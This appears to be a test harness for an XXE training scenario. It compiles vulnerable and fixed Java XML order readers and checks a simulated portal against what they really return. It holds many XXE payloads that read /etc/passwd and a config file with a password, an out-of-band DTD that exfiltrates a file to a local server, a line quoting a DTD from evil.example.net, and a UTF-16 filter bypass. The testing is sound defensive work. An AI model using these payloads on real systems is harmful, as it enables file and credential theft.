/** The order reader in a real Java: what each document really gets, and whether the simulated portal says so. */
import assert from 'node:assert/strict'
import { spawn, spawnSync } from 'node:child_process'
import { mkdirSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { dirname, join } from 'node:path'
import { atEnd } from '#scenario/clean-up'
import { hasLine } from '#scenario/quotes'
import type { Scenario } from '#scenario/scenario'
import { requireTool } from '#scenario/tools'

type Answer = { status: number; text: string }
type Read = (documents: { version: string; body: Buffer }[]) => Promise<Answer[]>

const passwd = `root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
portal:x:998:998:Supplier portal:/opt/portal:/usr/sbin/nologin
`

/** The server of the story, below the proof's folder. /etc/shadow is left out: a file that may not be read is the same to Java. */
const files: Record<string, string> = {
  'etc/passwd': passwd,
  'etc/hostname': 'portal-prod-1\n',
  'opt/portal/config/application.properties': `server.port=8443
spring.datasource.url=jdbc:postgresql://db.portal.example.com:5432/portal
spring.datasource.username=portal
spring.datasource.password=tungsten-EXAMPLE-41
mail.host=mail.example.com
`,
  'opt/portal/config/logback.xml':
    '<configuration><appender><pattern>%d %-5level %logger - %msg%n</pattern></appender></configuration>\n',
  'opt/portal/logs/portal.log': 'started\n',
  'opt/portal/logs/portal.log.1.gz': '\x1f\x8b\n',
  'opt/portal/portal.jar': 'PK\x03\x04\n',
  'proc/self/environ': 'LANG=C\0HOME=/opt/portal\0',
}
const folders = 'bin boot dev etc home lib opt proc root run sbin srv sys tmp usr var'.split(' ')

const invalidOrder = (name: string) => `package ${name};
public class InvalidOrderException extends Exception {
    public InvalidOrderException(String message) { super(message); }
}`

/** Stands for the portal around the reader: a confirmation, 400 for an order that is refused, 500 for anything else. */
const portal = (name: string) => `package ${name};
import java.io.ByteArrayInputStream;
public class Portal implements main.Portal {
    public String[] answer(byte[] body) {
        try {
            OrderReader.Order order = new OrderReader().read(new ByteArrayInputStream(body));
            StringBuilder items = new StringBuilder();
            for (OrderReader.Item item : order.items()) items.append(item.sku()).append(' ').append(item.quantity()).append(' ');
            return new String[] {"201", order.customer() + "\\n" + items + "\\n" + order.note()};
        } catch (InvalidOrderException e) {
            return new String[] {"400", e.getMessage()};
        } catch (Exception e) {
            return new String[] {"500", e.toString()};
        }
    }
}`
const main = `package main;
import java.io.*;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
public class Main {
    public static void main(String[] args) throws Exception {
        // The parser prints fatal errors by itself; the portal has its own log.
        System.setErr(new PrintStream(OutputStream.nullOutputStream()));
        BufferedReader in = new BufferedReader(new InputStreamReader(System.in));
        for (String line; (line = in.readLine()) != null; ) {
            String[] job = line.split(" ", -1);
            Portal portal = (Portal) Class.forName(job[0] + ".Portal").getDeclaredConstructor().newInstance();
            String[] answer = portal.answer(Base64.getDecoder().decode(job[1]));
            String text = answer[1] == null ? "" : answer[1];
            System.out.println(answer[0] + " " + Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8)));
        }
    }
}`
const mainPortal = `package main;
public interface Portal { String[] answer(byte[] body); }`

/** Compiles the versions, each in a package of its own, and gives what reads documents with them. */
function compile(folder: string, versions: Record<string, string>): Read {
  const sources: Record<string, string> = { 'main/Main.java': main, 'main/Portal.java': mainPortal }
  for (const [name, source] of Object.entries(versions)) {
    sources[`${name}/OrderReader.java`] = source.replace('package com.example.portal.orders;', `package ${name};`)
    sources[`${name}/InvalidOrderException.java`] = invalidOrder(name)
    sources[`${name}/Portal.java`] = portal(name)
  }
  for (const [path, text] of Object.entries(sources)) write(join(folder, 'java', path), text)
  const paths = Object.keys(sources).map((path) => join(folder, 'java', path))
  const { status, stderr } = spawnSync('javac', ['-d', join(folder, 'classes'), ...paths], { encoding: 'utf8' })
  assert.equal(status, 0, stderr)
  return (documents) =>
    new Promise((resolve, reject) => {
      const child = spawn('java', [
        '-Xshare:auto',
        '-XX:TieredStopAtLevel=1',
        '-cp',
        join(folder, 'classes'),
        'main.Main',
      ])
      let output = ''
      child.stdout.setEncoding('utf8').on('data', (text) => {
        output += text
      })
      child.on('error', reject)
      child.on('close', () => {
        const lines = output
          .trim()
          .split('\n')
          .map((line) => line.split(' '))
        resolve(
          lines.map(([status, text = '']) => ({
            status: Number(status),
            text: Buffer.from(text, 'base64').toString(),
          })),
        )
      })
      child.stdin.end(documents.map(({ version, body }) => `${version} ${body.toString('base64')}\n`).join(''))
    })
}

function write(file: string, text: string): void {
  mkdirSync(dirname(file), { recursive: true })
  writeFileSync(file, text, 'latin1')
}

const xml = '<?xml version="1.0" encoding="UTF-8"?>\n'
const order = (note: string) => `<order customer="S-2041">
  <item sku="LAMP-7" quantity="4"/>
  <note>${note}</note>
</order>
`
const withEntity = (declaration: string, note = '&x;') => `${xml}<!DOCTYPE order [ ${declaration} ]>\n${order(note)}`
const system = (address: string, note?: string) => withEntity(`<!ENTITY x SYSTEM "${address}">`, note)

/** Bodies for the step in which the file is read. */
const readingFiles = [
  `${xml}${order('Please ring twice')}`,
  order('Please ring twice'),
  ` ${system('file:///etc/passwd')}`,
  system('file:///etc/passwd'),
  system('file:/etc/passwd'),
  system('/etc/passwd'),
  system('file:///etc/passwd', 'Dear driver, &x;'),
  `<!DOCTYPE order [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>\n${order('&x;')}`,
  `<!DOCTYPE order [\n<!ENTITY passwd SYSTEM 'file:///etc/passwd'>\n]>\n${order('&passwd;')}`,
  withEntity('<!ENTITY x PUBLIC "any" "file:///etc/passwd">'),
  system('file:///etc/hostname'),
  system('file:///etc/shadow'),
  withEntity('<!ENTITY % x SYSTEM "file:///etc/passwd"> %x;'),
  withEntity('<!ENTITY % x SYSTEM "file:///etc/passwd">'),
  system('http://127.0.0.1:9/'),
  system('php://filter/resource=/etc/passwd'),
  system('expect://id'),
  system('gopher://127.0.0.1/'),
  system('data:text/plain,hello'),
  withEntity('<!ENTITY x SYSTEM file:///etc/passwd>'),
  withEntity('<!ENTITY x "file:///etc/passwd">'),
  withEntity('<!ENTITY hello "Good morning">', '&hello;'),
  `${xml}<!ENTITY x SYSTEM "file:///etc/passwd">\n${order('&x;')}`,
  `${xml}${order('&x;')}<!DOCTYPE order [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>`,
  `${xml}${order('Please ring twice')}<!DOCTYPE order [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]>`,
  `${xml}<order customer="S-2041"><!DOCTYPE order [ <!ENTITY x SYSTEM "file:///etc/passwd"> ]><item sku="LAMP-7" quantity="4"/><note>&x;</note></order>`,
  system('file:///etc/passwd').replace('"S-2041"', '"&x;"').replace('<note>&x;', '<note>'),
  system('file:///etc/passwd', '&x'),
  system('file:///etc/passwd', 'Please ring twice'),
  system('file:///etc/nothing'),
  system('file:///etc/passwd', '&y;'),
  `${xml}${order('&x;')}`,
  `${xml}${order('&nbsp;')}`,
  `${xml}<!DOCTYPE order [ <!ENTITY x SYSTEM "file:///etc/passwd" ]>\n${order('&x;')}`,
  `${xml}<!DOCTYPE order [ <ENTITY x SYSTEM "file:///etc/passwd"> ]>\n${order('&x;')}`,
  `${xml}${order('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')}`,
  `${xml}<!DOCTYPE order>\n${order('Please ring twice')}`,
  `${xml}<!DOCTYPE order [ ]>\n${order('Please ring twice')}`,
  `${xml}<!DOCTYPE [ <!ENTITY x> ]>\n${order('Please ring twice')}`,
  `${xml}<!DOCTYPE order [ <!ENTITY SYSTEM "file:///etc/passwd"> ]>\n${order('Please ring twice')}`,
  `${xml}${order('/etc/passwd')}`,
  `${xml}${order('file:///etc/passwd')}`,
  '',
  'hello',
  '<order customer="S-2041">',
]

const findingPasswords = [
  ...[
    'opt/portal/config/application.properties',
    'opt/portal/config/',
    'opt/portal/config',
    'opt/portal/',
    'opt/portal',
  ]
    .concat(['opt/portal/config/logback.xml', 'opt/portal/portal.jar', 'opt/portal/logs/', 'opt/', 'opt', ''])
    .concat(['proc/self/environ', 'etc/passwd', 'opt/portal/application.properties', 'opt/portal/config/nothing'])
    .map((path) => system(`file:///${path}`)),
  system('/opt/portal/config/application.properties'),
  '',
  'hello',
]

/** The answer of a step, as the portal would have put it. */
function readReply(text: string): { note?: string; error?: string } {
  return JSON.parse(text.split('\n\n#')[0] ?? '') as { note?: string; error?: string }
}

export async function prove(scenario: Scenario): Promise<void> {
  const { check, folder } = scenario
  requireTool('javac', ['-version'])
  const root = join(folder, 'server')
  for (const [path, text] of Object.entries(files)) write(join(root, path), text)
  for (const name of folders) mkdirSync(join(root, name), { recursive: true })
  const read = compile(folder, {
    vulnerable: scenario.code(),
    fixed: scenario.code({ 'make-parser': parserWith('http://apache.org/xml/features/disallow-doctype-decl', true) }),
    half: scenario.code({
      'make-parser': parserWith('http://xml.org/sax/features/external-general-entities', false),
    }),
  })
  /** The same document for the server of the story. */
  const place = (body: string) =>
    Buffer.from(body.replaceAll(/(["'](?:file:\/{0,2})?)(\/(?:etc|opt|proc)\b|\/(?=["']))/g, `$1${root}$2`))
  const readAll = (version: string, bodies: string[]) => read(bodies.map((body) => ({ version, body: place(body) })))

  const compareAll = async (stepId: string, bodies: string[], isGoal: (answer: Answer) => boolean) => {
    const answers = await readAll('vulnerable', bodies)
    for (const [index, body] of bodies.entries()) {
      const { status, text: found } = answers[index] as Answer
      const text = found.replaceAll(root, '')
      await check(`${stepId}: ${JSON.stringify(body)}`, () => {
        const reply = scenario.ask(stepId, { body })
        const happened = `what really happened: ${status} ${text}\nwhat the step answers: ${reply.status} ${reply.text}`
        assert.equal(reply.status, status, happened)
        assert.equal(reply.isGoal, isGoal({ status, text }), happened)
        const { note, error } = readReply(reply.text)
        if (status === 400) assert.ok(hasLine(text, error ?? ''), happened)
        if (status === 201)
          assert.ok(
            hasLine(text.split('\n').slice(2).join('\\n'), (note ?? '').trim().replaceAll('\n', '\\n')),
            happened,
          )
      })
    }
  }
  await compareAll('2-attack', readingFiles, ({ status, text }) => status === 201 && text.includes(passwd.trim()))
  await compareAll('3-damage', findingPasswords, ({ text }) => text.includes('password=tungsten-EXAMPLE-41'))
  await check('requests that never get to the reader are refused by the portal itself', () => {
    assert.equal(scenario.ask('2-attack', { method: 'GET' }).status, 405)
    assert.equal(scenario.ask('2-attack', { path: '/orders/1' }).status, 404)
    assert.equal(scenario.ask('2-attack', { headers: 'Host: portal.example.com' }).status, 401)
  })

  const refused = await readAll('fixed', readingFiles)
  const disallowed =
    'DOCTYPE is disallowed when the feature "http://apache.org/xml/features/disallow-doctype-decl" set to true.'
  for (const [index, body] of readingFiles.entries()) {
    const { status, text } = refused[index] as Answer
    await check(`6-again: ${JSON.stringify(body)}`, () => {
      const reply = scenario.ask('6-again', { body })
      assert.equal(reply.status, status, `${text}\n${reply.text}`)
      assert.ok(!text.includes('root:x:0'), 'nothing is read')
      if (reply.isGoal) {
        scenario.quote('6-again', disallowed.replaceAll('"', '\\"'))
        assert.ok(text.includes(disallowed) || !body.startsWith('<'), text)
      }
    })
  }
  await proveOtherFixes(scenario, read, place)
}

const parserWith = (feature: string, value: boolean) => `
    private static DocumentBuilder newParser() throws ParserConfigurationException {
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setNamespaceAware(true);
        factory.setIgnoringComments(true);
        factory.setFeature("${feature}", ${value});
        return factory.newDocumentBuilder();
    }`

async function proveOtherFixes(
  { check, quote, folder }: Scenario,
  read: Read,
  place: (body: string) => Buffer,
): Promise<void> {
  const requested: string[] = []
  const server = createServer((request, response) => {
    requested.push(request.url ?? '')
    const { port } = server.address() as AddressInfo
    response.end(`<!ENTITY % file SYSTEM "file://${join(folder, 'server/etc/hostname')}">
<!ENTITY % eval "<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:${port}/taken?%file;'>">
%eval; %send;`)
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  atEnd(() => server.close())
  const { port } = server.address() as AddressInfo

  await check('without external general entities, a DTD still takes a file away', async () => {
    quote('5-fix', '`&x;` stays empty')
    const [plain] = await read([{ version: 'half', body: place(system('file:///etc/passwd')) }])
    assert.deepEqual(plain, { status: 201, text: 'S-2041\nLAMP-7 4 \n' })
    quote('5-fix', '<!DOCTYPE order SYSTEM "http://evil.example.net/x.dtd">')
    const body = `<!DOCTYPE order SYSTEM "http://127.0.0.1:${port}/x.dtd">\n${order('Please ring twice')}`
    await read([{ version: 'half', body: Buffer.from(body) }])
    assert.ok(
      requested.some((url) => url.startsWith('/taken?portal-prod-1')),
      requested.join(),
    )
    requested.length = 0
    await read([{ version: 'fixed', body: Buffer.from(body) }])
    assert.deepEqual(requested, [], 'the right fix opens nothing')
  })
  await check('a filter that reads UTF-8 does not see an order in UTF-16', async () => {
    const text = place(system('file:///etc/passwd').replace('encoding="UTF-8"', 'encoding="UTF-16"')).toString()
    const body = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
    quote('5-fix', 'The check sees a zero between all letters and finds nothing')
    assert.doesNotMatch(new TextDecoder().decode(body), /<!ENTITY|SYSTEM/)
    const [answer] = await read([{ version: 'vulnerable', body }])
    assert.ok(answer?.text.includes(passwd.trim()))
    const [safe] = await read([{ version: 'fixed', body }])
    assert.match(safe?.text ?? '', /DOCTYPE is disallowed/)
  })
}
